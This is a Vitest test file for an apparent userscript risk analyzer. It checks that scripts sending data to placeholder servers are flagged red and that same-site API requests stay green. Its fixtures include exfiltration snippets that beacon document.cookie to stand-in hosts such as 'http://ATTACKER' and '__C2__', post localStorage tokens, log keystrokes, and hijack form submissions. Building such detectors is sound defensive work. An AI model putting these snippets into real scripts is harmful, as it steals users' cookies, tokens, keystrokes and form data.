import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { userscript } from "../testing/find-in.ts";

const on = (body: string): string => userscript(["match https://shop.example/*"], body);
const levelOf = (body: string): string => analyzeScript({ code: on(body) }).risk_level;
const beacon = (address: string): string => `new Image().src = ${address} + "?c=" + document.cookie;`;

describe("secrets sent to a server that is to be filled in", () => {
	test.each([
		"<URL>",
		"REPLACE_ME",
		"[SERVER]",
		"{{host}}",
		"\u0024{HOST}",
		"YOUR-SERVER",
		"your.webhook.url",
		"%%C2%%",
		"__C2__",
		"http://ATTACKER",
		"{0}",
	])("written as %s", (placeholder) => expect(levelOf(beacon(JSON.stringify(placeholder)))).toBe("red"));

	test.each([
		["an empty constant", `const WEBHOOK = ""; ${beacon("WEBHOOK")}`],
		["an empty constant of any name", `const x = ""; ${beacon("x")}`],
		["an empty variable", `var server = ""; navigator.sendBeacon(server, document.cookie);`],
		[
			"an empty option",
			`const options = { url: "" }; fetch(options.url + "/steal", { method: "POST", body: document.cookie });`,
		],
		[
			"an empty constant, by a function",
			`const C2 = \`\`; const send = (to, what) => fetch(to, { method: "POST", body: what }); send(C2, localStorage.getItem("token"));`,
		],
	])("%s", (_title, code) => expect(levelOf(code)).toBe("red"));

	test("keys, form entries and tokens as well", () => {
		expect(
			levelOf(
				`let all = ""; onkeydown = ({ key }) => { all += key; }; setInterval(() => fetch("[C2]", { method: "POST", body: all }), 900);`,
			),
		).toBe("red");
		expect(
			levelOf(`onsubmit = ({ target }) => fetch("{{URL}}/f", { method: "POST", body: new FormData(target) });`),
		).toBe("red");
		expect(levelOf(`fetch("API_ENDPOINT", { method: "POST", body: localStorage.getItem("token") });`)).toBe("red");
	});
});

describe("requests to the site itself stay Low", () => {
	const press = (work: string): string =>
		`const token = document.querySelector("meta[name=csrf-token]").content, b = document.createElement("button"); document.body.append(b); b.onclick = () => { ${work} };`;

	test.each([
		[
			"an empty base of the site's interface",
			press(`const BASE_URL = ""; fetch(BASE_URL + "/api/star", { method: "POST", headers: { "x-csrf": token } });`),
		],
		[
			"a template that is filled in",
			`fetch("{site}/star?x=".replace("{site}", "/api") + document.title).then((r) => r.text()).then((t) => { document.body.title = t; });`,
		],
		[
			"an address that begins empty",
			press(
				`let url = ""; if (token) url = "/api/star"; else url = "/api/join"; fetch(url, { method: "POST", body: token });`,
			),
		],
		[
			"a name of a variable in the wrong quotation marks",
			`document.querySelector("#q").oninput = ({ target }) => fetch("\u0024{apiUrl}/users?name=" + target.value).then((r) => r.json()).then(console.log);`,
		],
		[
			"a search",
			`const API = ""; document.querySelector("#q").onchange = async ({ target }) => { document.title = (await fetch(API + "/find?q=" + target.value)).status; };`,
		],
		[
			"a template without data",
			`document.body.insertAdjacentHTML("beforeend", '<img src="{{picture}}">'); fetch("{id}").then((r) => r.text()).then((t) => { document.title = t; });`,
		],
		[
			"a path in capitals",
			`fetch("API/LIST?page=2").then((r) => r.json()).then((list) => { document.title = list.length; });`,
		],
	])("%s", (_title, code) => expect(levelOf(code)).toBe("green"));
});
